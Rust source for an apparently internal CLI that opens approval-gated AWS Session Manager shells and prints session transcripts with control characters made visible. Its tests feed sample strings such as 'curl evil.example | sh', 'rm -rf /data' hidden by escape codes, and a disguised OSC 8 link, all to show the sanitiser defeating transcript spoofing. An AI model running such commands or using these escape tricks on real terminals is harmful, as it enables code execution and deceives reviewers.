//! `cib shell`: a shell on an EC2 instance or managed node through AWS Systems Manager Session
//! Manager. The shell session starts as a JIT one does (waiting for approval where it is needed,
//! `approval`); its credentials, which reach that one target only, then run
//! `aws ssm start-session` as a child process on this terminal (the Session Manager plugin does
//! the rest) and are never printed. With `--print`, or where the AWS CLI or its plugin is
//! missing, what to run is printed instead; `--json` prints the whole answer and runs nothing.
//! `cib sessions transcript` prints what one of its Session Manager sessions recorded, its control
//! characters shown rather than sent to the terminal (`visible`) unless `--raw`.

use std::io::{ErrorKind, Write};
use std::path::{Path, PathBuf};
use std::process::Stdio;

use serde_json::{Value, json};

use crate::approval::{self, wait_timeout};
use crate::args::ShellArgs;
use crate::client::{Client, Failure, exit};
use crate::output::print;
use crate::{progress, seconds};

/// The Session document (the account's Session Manager preferences) when the API names none.
const DEFAULT_DOCUMENT: &str = "SSM-SessionManagerRunShell";
/// The AWS CLI's Session Manager plugin, which `aws ssm start-session` runs.
const PLUGIN: &str = "session-manager-plugin";
const PLUGIN_INSTALL: &str =
    "https://docs.aws.amazon.com/systems-manager/latest/userguide/session-manager-working-with-install-plugin.html";
const CLI_INSTALL: &str = "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html";

/// A string field, when it is there and not empty.
fn text<'a>(value: &'a Value, key: &str) -> Option<&'a str> {
    value[key].as_str().filter(|s| !s.is_empty())
}

/// Where a shell session goes: the API's `shell` field.
struct Shell<'a> {
    target: &'a str,
    document: &'a str,
    region: &'a str,
    run_as: Option<&'a str>,
}

impl<'a> Shell<'a> {
    /// `None` when it names no target or region.
    fn read(shell: &'a Value) -> Option<Self> {
        Some(Shell {
            target: text(shell, "target")?,
            document: text(shell, "document_name").unwrap_or(DEFAULT_DOCUMENT),
            region: text(shell, "region")?,
            run_as: text(shell, "run_as"),
        })
    }

    /// The AWS CLI's arguments that open it.
    fn args(&self) -> [&'a str; 8] {
        [
            "ssm",
            "start-session",
            "--target",
            self.target,
            "--document-name",
            self.document,
            "--region",
            self.region,
        ]
    }

    fn command(&self) -> String {
        format!("aws {}", self.args().join(" "))
    }
}

/// `aws ssm start-session …` for a grant's `shell` field (`sessions::print_started`): what
/// `cib shell` runs.
pub(crate) fn command(shell: &Value) -> Option<String> {
    Shell::read(shell).map(|s| s.command())
}

/// A started shell session: which, until when, where it goes, and its credentials.
struct Started<'a> {
    id: &'a str,
    expires_at: &'a str,
    shell: Shell<'a>,
    access_key_id: &'a str,
    secret_access_key: &'a str,
    session_token: &'a str,
}

impl<'a> Started<'a> {
    /// From what `POST /sessions` answers with 201 (or `approval::await_start` gives back).
    fn read(started: &'a Value) -> Result<Self, Failure> {
        let missing = || {
            Failure::new(
                exit::UNAVAILABLE,
                "the API handed out no credentials (they are given once: were they read elsewhere?)",
            )
        };
        let credentials = &started["credentials"];
        let session = &started["session"];
        let shell = Shell::read(&started["shell"]).ok_or_else(|| {
            Failure::new(
                exit::UNAVAILABLE,
                "the API did not say where the shell goes (no target or region in its answer)",
            )
        })?;
        Ok(Started {
            id: text(session, "id").unwrap_or("?"),
            expires_at: text(session, "expires_at").unwrap_or("?"),
            shell,
            access_key_id: text(credentials, "access_key_id").ok_or_else(missing)?,
            secret_access_key: text(credentials, "secret_access_key").ok_or_else(missing)?,
            session_token: text(credentials, "session_token").ok_or_else(missing)?,
        })
    }
}

/// What to run yourself: a comment naming the session, the credentials and region as `export`
/// lines, and the command. Standard output only.
fn instructions(s: &Started<'_>) -> String {
    format!(
        "# cib session {id} on {target}, until {until}; `cib sessions end {id}` ends it sooner\n\
         export AWS_ACCESS_KEY_ID={key}\n\
         export AWS_SECRET_ACCESS_KEY={secret}\n\
         export AWS_SESSION_TOKEN={token}\n\
         export AWS_REGION={region}\n\
         {command}",
        id = s.id,
        target = s.shell.target,
        until = s.expires_at,
        key = s.access_key_id,
        secret = s.secret_access_key,
        token = s.session_token,
        region = s.shell.region,
        command = s.shell.command(),
    )
}

/// `cib shell`: starts the shell session (waiting for approval where it is needed), then opens
/// it here, or prints what to run.
pub(crate) async fn shell(api: &Client, args: &ShellArgs, json: bool) -> Result<(), Failure> {
    let timeout = wait_timeout(&args.wait_timeout)?;
    let body = json!({
        "account_id": args.account,
        "type": "shell",
        "target": args.target,
        "duration_seconds": seconds(&args.duration)?,
        "reason": args.reason,
        "break_glass": args.break_glass,
    });
    progress(&format!("starting a shell session on {}…", args.target));
    let started = match api.call_status("POST", "/sessions", Some(body)).await? {
        (202, reply) => approval::await_start(api, &reply["session"], timeout).await?,
        (_, started) => started,
    };
    if json {
        // For scripts: the whole answer, credentials included; nothing is run.
        print(&started, true, &[]);
        return Ok(());
    }
    let s = Started::read(&started)?;
    if args.print {
        println!("{}", instructions(&s));
        return Ok(());
    }
    match (on_path("aws"), on_path(PLUGIN).is_some()) {
        (Some(aws), true) => connect(&aws, &s).await,
        (aws, _) => {
            if aws.is_none() {
                eprintln!(
                    "cib: the AWS CLI (aws) is not installed, or not on PATH: see {CLI_INSTALL}; \
                     `aws ssm start-session` also needs its Session Manager plugin: see {PLUGIN_INSTALL}"
                );
            } else {
                eprintln!(
                    "cib: the Session Manager plugin of the AWS CLI ({PLUGIN}) is not installed, or not on \
                     PATH: see {PLUGIN_INSTALL}"
                );
            }
            eprintln!("cib: the session is started; where both are installed, run:");
            println!("{}", instructions(&s));
            Ok(())
        }
    }
}

/// Runs `aws ssm start-session` on this terminal with the session's credentials and region in
/// its environment (and no AWS profile to prefer over them); a failure is exit 4.
async fn connect(aws: &Path, s: &Started<'_>) -> Result<(), Failure> {
    let as_user = s.shell.run_as.map(|u| format!(" as {u}")).unwrap_or_default();
    progress(&format!(
        "session {} on {}{as_user}, until {}: {}",
        s.id,
        s.shell.target,
        s.expires_at,
        s.shell.command()
    ));
    // Ctrl-C belongs to the remote shell (the plugin passes it on): it must not end cib meanwhile
    // and leave the terminal to a child nobody waits for. Registered before the child starts.
    let interrupts = tokio::spawn(async { while tokio::signal::ctrl_c().await.is_ok() {} });
    tokio::task::yield_now().await;
    let child = tokio::process::Command::new(aws)
        .args(s.shell.args())
        .env("AWS_ACCESS_KEY_ID", s.access_key_id)
        .env("AWS_SECRET_ACCESS_KEY", s.secret_access_key)
        .env("AWS_SESSION_TOKEN", s.session_token)
        .env("AWS_REGION", s.shell.region)
        .env_remove("AWS_PROFILE")
        .stdin(Stdio::inherit())
        .stdout(Stdio::inherit())
        .stderr(Stdio::inherit())
        .spawn();
    let status = match child {
        Ok(mut child) => child.wait().await,
        Err(e) => Err(e),
    };
    interrupts.abort();
    let status = status.map_err(|e| Failure::new(exit::UNAVAILABLE, format!("running {}: {e}", aws.display())))?;
    let still = format!(
        "session {id} lasts until {until} (`cib sessions end {id}` ends it sooner)",
        id = s.id,
        until = s.expires_at
    );
    if status.success() {
        progress(&format!("the shell closed; {still}"));
        return Ok(());
    }
    let how = match status.code() {
        Some(code) => format!("exited with {code}"),
        None => "was stopped by a signal".to_string(),
    };
    Err(Failure::new(
        exit::UNAVAILABLE,
        format!("aws ssm start-session {how}; {still}"),
    ))
}

/// A program as the shell would find it on PATH (empty entries, the current directory, are not
/// looked in).
fn on_path(name: &str) -> Option<PathBuf> {
    let extensions: &[&str] = if cfg!(windows) {
        &[".exe", ".cmd", ".bat"]
    } else {
        &[""]
    };
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path)
        .filter(|dir| !dir.as_os_str().is_empty())
        .flat_map(move |dir| extensions.iter().map(move |ext| dir.join(format!("{name}{ext}"))))
        .find(|candidate| executable(candidate))
}

#[cfg(unix)]
fn executable(path: &Path) -> bool {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
}

#[cfg(not(unix))]
fn executable(path: &Path) -> bool {
    path.is_file()
}

/// `cib sessions transcript`: the transcript on standard output, its control characters shown
/// (`visible`) or, with `--raw`, as they were recorded; a note on standard error when the API cut
/// it short, or when it no longer matches what the session's log recorded.
pub(crate) async fn transcript(
    api: &Client,
    id: &str,
    ssm_session_id: &str,
    raw: bool,
    json: bool,
) -> Result<(), Failure> {
    let transcript = api
        .call("GET", &format!("/sessions/{id}/transcripts/{ssm_session_id}"), None)
        .await?;
    if json {
        print(&transcript, true, &[]);
        return Ok(());
    }
    let content = transcript["content"].as_str().unwrap_or_default();
    let shown = if raw {
        content.to_string()
    } else {
        visible(content.as_bytes())
    };
    let mut out = std::io::stdout().lock();
    let written = out.write_all(shown.as_bytes()).and_then(|()| out.flush());
    // A reader that stopped early (`| head`) is no failure.
    if let Err(e) = written
        && e.kind() != ErrorKind::BrokenPipe
    {
        return Err(Failure::new(exit::UNAVAILABLE, format!("writing the transcript: {e}")));
    }
    if transcript["truncated"].as_bool() == Some(true) {
        eprintln!(
            "cib: the transcript is cut short; the whole of it is at {}",
            visible(transcript["location"].as_str().unwrap_or("?").as_bytes())
        );
    }
    if transcript["matches_log"].as_bool() == Some(false) {
        eprintln!(
            "cib: this is not the transcript the session's log recorded at its end (its SHA-256 or size differs): it was changed or replaced in S3 since"
        );
    }
    Ok(())
}

/// What was recorded, made safe for a reviewer's terminal: recorded escape sequences would act on
/// it (clear a line, move the cursor back over a command, make a link say one thing and go to
/// another) and hide what was typed. Newlines and tabs stay; every other control character is
/// shown: ESC as `^[` and the rest of C0 as `^@`…`^_`, DEL as `^?`, the C1 controls as `\u{9b}`;
/// bytes that are not UTF-8 as `\xNN`.
fn visible(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        for c in chunk.valid().chars() {
            match c {
                '\n' | '\t' => out.push(c),
                '\0'..='\x1f' => {
                    out.push('^');
                    out.push(char::from(b'@' + c as u8));
                }
                '\x7f' => out.push_str("^?"),
                '\u{80}'..='\u{9f}' => out.push_str(&format!("\\u{{{:x}}}", u32::from(c))),
                _ => out.push(c),
            }
        }
        for byte in chunk.invalid() {
            out.push_str(&format!("\\x{byte:02x}"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use clap::Parser;

    use super::*;
    use crate::args::{Cli, Command, Sessions};

    fn answer() -> Value {
        json!({
            "session": { "id": "01JS", "type": "shell", "status": "active", "expires_at": "2030-01-01T01:00:00Z" },
            "credentials": {
                "access_key_id": "ASIA1", "secret_access_key": "s3cret", "session_token": "t0ken",
                "expiration": "2030-01-01T01:00:00Z",
            },
            "shell": {
                "target": "i-0123456789abcdef0", "region": "eu-west-1", "document_name": "SSM-SessionManagerRunShell",
                "run_as": null,
                "command": "aws ssm start-session --target i-0123456789abcdef0 --document-name SSM-SessionManagerRunShell --region eu-west-1",
            },
        })
    }

    #[test]
    fn what_to_run_is_the_credentials_the_region_and_the_command() {
        let answer = answer();
        let started = Started::read(&answer).unwrap();
        assert_eq!(started.shell.run_as, None);
        let printed = instructions(&started);
        let lines: Vec<&str> = printed.lines().collect();
        assert!(
            lines[0].starts_with("# cib session 01JS on i-0123456789abcdef0"),
            "{lines:?}"
        );
        assert_eq!(
            lines[1..],
            [
                "export AWS_ACCESS_KEY_ID=ASIA1",
                "export AWS_SECRET_ACCESS_KEY=s3cret",
                "export AWS_SESSION_TOKEN=t0ken",
                "export AWS_REGION=eu-west-1",
                "aws ssm start-session --target i-0123456789abcdef0 --document-name SSM-SessionManagerRunShell --region eu-west-1",
            ]
        );
        assert_eq!(
            command(&answer["shell"]).as_deref(),
            answer["shell"]["command"].as_str(),
            "what is run is what the API says to run"
        );
    }

    #[test]
    fn without_credentials_or_a_region_there_is_nothing_to_run() {
        let mut spent = answer();
        spent.as_object_mut().unwrap().remove("credentials");
        assert!(Started::read(&spent).is_err_and(|f| f.code == exit::UNAVAILABLE && f.message.contains("once")));

        let mut nowhere = answer();
        nowhere["shell"]["region"] = Value::Null;
        assert!(Started::read(&nowhere).is_err());
        assert_eq!(command(&nowhere["shell"]), None);

        let mut plain = answer();
        plain["shell"]["document_name"] = Value::Null;
        plain["shell"]["run_as"] = json!("alice");
        let started = Started::read(&plain).unwrap();
        assert_eq!(started.shell.document, DEFAULT_DOCUMENT);
        assert_eq!(started.shell.run_as, Some("alice"));
    }

    #[test]
    fn a_program_missing_from_path_is_not_found() {
        assert_eq!(on_path("cib-no-such-program-anywhere"), None);
    }

    #[test]
    fn a_shell_names_its_target_and_waits_as_the_others_do() {
        let shell = |extra: &[&str]| {
            let mut args = vec![
                "cib",
                "shell",
                "i-0123456789abcdef0",
                "--account",
                "a",
                "--reason",
                "why",
            ];
            args.extend_from_slice(extra);
            match Cli::try_parse_from(args).unwrap().command {
                Command::Shell(shell) => shell,
                _ => panic!("not a shell"),
            }
        };
        let plain = shell(&[]);
        assert_eq!(plain.target, "i-0123456789abcdef0");
        assert_eq!((plain.duration.as_str(), plain.wait_timeout.as_str()), ("1h", "1h"));
        assert!(!plain.break_glass, "no break-glass unless asked");
        assert!(!plain.print, "run, not printed, unless asked");
        let printed = shell(&["--wait", "10m", "--print", "--break-glass"]);
        assert_eq!(printed.wait_timeout, "10m");
        assert!(printed.print && printed.break_glass);
        assert_eq!(shell(&["--wait-timeout", "5m"]).wait_timeout, "5m");
        assert!(
            Cli::try_parse_from(["cib", "shell", "--account", "a", "--reason", "why"]).is_err(),
            "the target is not guessed"
        );

        let transcript = Cli::try_parse_from(["cib", "sessions", "transcript", "01JS", "alice-0abc"]).unwrap();
        assert!(matches!(
            transcript.command,
            Command::Sessions(Sessions::Transcript { id, ssm_session_id, raw }) if id == "01JS" && ssm_session_id == "alice-0abc" && !raw
        ));
        let raw = Cli::try_parse_from(["cib", "sessions", "transcript", "01JS", "alice-0abc", "--raw"]).unwrap();
        assert!(matches!(
            raw.command,
            Command::Sessions(Sessions::Transcript { raw, .. }) if raw
        ));
    }

    #[test]
    fn a_transcript_shows_its_control_characters_rather_than_obey_them() {
        // A command wiped from the line it was typed on (ESC [2K, then a carriage return).
        assert_eq!(visible(b"rm -rf /data\x1b[2K\rls\n"), "rm -rf /data^[[2K^Mls\n");
        // A carriage return alone: what follows would be written over the command.
        assert_eq!(
            visible(b"curl evil.example | sh\recho hello           \n"),
            "curl evil.example | sh^Mecho hello           \n"
        );
        // OSC 8: a link whose text is not where it goes (ended by BEL, then by ESC \).
        assert_eq!(
            visible(b"\x1b]8;;https://evil.example/\x07docs\x1b]8;;\x1b\\"),
            "^[]8;;https://evil.example/^Gdocs^[]8;;^[\\"
        );
        // C1 controls, UTF-8 encoded: CSI (U+009B) clearing the screen, NEL (U+0085).
        assert_eq!(visible("\u{9b}2Jok\u{85}".as_bytes()), "\\u{9b}2Jok\\u{85}");
        // Bytes that are not UTF-8 (a lone 0x9b too, and a sequence cut short at the end).
        assert_eq!(visible(b"a\xff\x9bb\xc3"), "a\\xff\\x9bb\\xc3");
        // Newlines, tabs and text stay; NUL, DEL and the rest of C0 are shown.
        assert_eq!(
            visible("a\tb\nc\x00\x7f\x1f\x01 é ✓\n".as_bytes()),
            "a\tb\nc^@^?^_^A é ✓\n"
        );
    }
}
